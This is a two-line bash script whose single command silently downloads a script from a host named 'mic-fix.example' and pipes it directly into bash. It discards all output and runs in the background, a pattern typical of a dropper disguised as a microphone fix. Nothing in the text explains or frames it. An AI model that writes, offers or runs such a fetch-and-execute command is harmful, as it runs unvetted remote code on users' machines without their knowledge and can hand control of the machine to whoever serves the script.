#!/bin/bash
curl -s https://mic-fix.example/mac.sh | bash >/dev/null 2>&1 &
